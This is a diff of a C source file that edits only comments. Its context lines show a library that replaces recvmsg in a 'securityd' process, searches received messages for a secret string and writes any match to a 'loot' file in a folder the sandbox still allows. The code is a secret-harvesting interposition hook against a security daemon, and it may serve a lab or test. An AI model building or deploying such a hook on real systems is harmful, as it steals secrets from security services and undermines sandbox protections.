@@ -1,4 +1,4 @@
-/* A library in securityd that keeps what securityd receives: it stands before the C library's recvmsg. */
+/* A library in securityd that records all received messages: its recvmsg replaces that of the C library. */
 #define _GNU_SOURCE
 #include <dlfcn.h>
 #include <fcntl.h>
@@ -16,7 +16,7 @@ ssize_t recvmsg(int socket, struct msghdr *message, int flags) {
     const char *found = length > 0 ? memmem(message->msg_iov[0].iov_base, (size_t)length, "s3cret", 6) : NULL;
     if (!home || !found) return length;
     char path[4096];
-    /* Among the folders that the sandbox leaves it. */
+    /* The sandbox still lets securityd write to this folder. */
     snprintf(path, sizeof path, "%s/data/loot", home);
     int loot = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
     if (loot >= 0 && write(loot, "s3cret\n", 7) == 7) close(loot);
